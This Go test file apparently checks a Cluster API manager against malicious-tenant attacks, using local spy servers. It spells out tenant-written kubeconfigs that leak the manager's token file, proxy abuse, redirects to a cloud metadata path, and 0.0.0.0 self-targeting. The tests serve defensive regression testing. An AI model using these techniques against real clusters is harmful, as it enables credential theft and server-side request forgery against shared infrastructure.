// SPDX-License-Identifier: Apache-2.0

package attacks

import (
	"fmt"
	"net/http"
	"sync/atomic"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/utils/ptr"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
	"sigs.k8s.io/cluster-api/util/conditions"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// tokenFile names the manager's file in the user of a kubeconfig.
func tokenFile() string { return fmt.Sprintf("tokenFile: %q", managerFile) }

// own is the annotation that marks a kubeconfig as the user's.
var own = map[string]string{"infrastructure.cluster.x-k8s.io/user-managed": "true"}

// connects has the manager use a kubeconfig that the tenant wrote. No kubeconfig of the portal replaces it, because there is no portal
// cluster: the Cluster is paused, and the tenant writes into its status that its control plane runs.
func (t *tenant) connects(annotations map[string]string, config []byte) bool {
	t.Helper()
	c := t.own(nil)
	c.cluster.Spec.Paused = ptr.To(true)
	secret := t.kubeconfigSecret(c)
	secret.Annotations, secret.Data = annotations, map[string][]byte{"value": config}
	if !t.create(secret, c.cluster) {
		return false
	}
	before := c.cluster.DeepCopy()
	c.cluster.Status.Initialization.InfrastructureProvisioned, c.cluster.Status.Initialization.ControlPlaneInitialized = ptr.To(true), ptr.To(true)
	return t.accepted(t.client.Status().Patch(t.Context(), c.cluster, client.MergeFrom(before)))
}

// leaksFile has the provider, or else core, connect to the tenant's server with the content of the manager's file. This is the attack that
// stole the manager's token.
func (t *tenant) leaksFile(annotations map[string]string, provider bool) string {
	t.Helper()
	server := newSpy(t.T, loopback, nil)
	if !t.connects(annotations, server.kubeconfig("", tokenFile())) {
		return ""
	}
	return t.leaked(server, provider)
}

// leaked searches the requests to the tenant's server for the content of the manager's file.
func (t *tenant) leaked(server *spy, provider bool) string {
	t.Helper()
	return t.seen("the tenant's server received the content of a file of the manager's", func() bool {
		return server.received(provider, carries(managerSecret))
	})
}

// reached reports whether the manager sends a request to the server.
func (t *tenant) reached(server *spy, harm string) string {
	t.Helper()
	return t.seen(harm, func() bool { return server.received(true, anything) })
}

// swapped changes the Secret while the manager is connected. Then the tenant's server refuses the credentials, which makes the manager
// connect again.
func swapped(t *tenant) string {
	var refuses atomic.Bool
	server := newSpy(t.T, loopback, func(w http.ResponseWriter, r *http.Request) {
		if refuses.Load() {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		apiServer(w, r)
	})
	c := t.own(server.kubeconfig("", "token: mine"))
	if !t.create(c.objects()...) {
		t.Fatal("a tenant cannot make a cluster")
	}
	t.await("the manager is connected", func() bool {
		return server.received(true, func(r *http.Request) bool { return r.URL.Path == "/api/v1/nodes" })
	})
	// While the Cluster is paused, the portal's kubeconfig does not replace the tenant's.
	if !change(t, c.cluster, func(c *clusterv1.Cluster) { c.Spec.Paused = ptr.To(true) }) {
		return ""
	}
	t.await("the control plane is paused", func() bool { return conditions.IsTrue(fetched(t, c.controlPlane), clusterv1.PausedCondition) })
	if !change(t, t.kubeconfigSecret(c), func(s *corev1.Secret) { s.Data["value"] = server.kubeconfig("", tokenFile()) }) {
		return ""
	}
	refuses.Store(true)
	return t.leaked(server, true)
}

// namesProxy names a server that can only be reached through the tenant's proxy.
func namesProxy(t *tenant) string {
	server := newSpy(t.T, loopback, nil)
	proxy := newPlainSpy(t.T, loopback, tunnel(server.Listener.Addr().String()))
	config := kubeconfig("https://localhost:1", server.ca, fmt.Sprintf(", proxy-url: %q", proxy.URL), "token: mine")
	if !t.connects(own, config) {
		return ""
	}
	return t.reached(server, "the manager used the tenant's proxy")
}

// apiServerRedirects redirects the manager to a server that speaks plain HTTP, as a metadata service does.
func apiServerRedirects(t *tenant) string {
	target := newPlainSpy(t.T, loopback, nil)
	server := newSpy(t.T, loopback, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target.URL+"/latest/meta-data/", http.StatusFound)
	})
	if !t.connects(own, server.kubeconfig("", "token: mine")) {
		return ""
	}
	return t.reached(target, "the manager asked a host that the tenant's API server named")
}

// unspecified returns a kubeconfig with an address of this machine that does not look like loopback.
func unspecified(s *spy) []byte {
	return kubeconfig(fmt.Sprintf("https://0.0.0.0:%d", s.port()), s.ca, "", "token: mine")
}

func (t *tenant) leadsHome(target *spy, accepted bool) string {
	t.Helper()
	if !accepted {
		return ""
	}
	return t.reached(target, "the manager connected to its own host for the tenant")
}
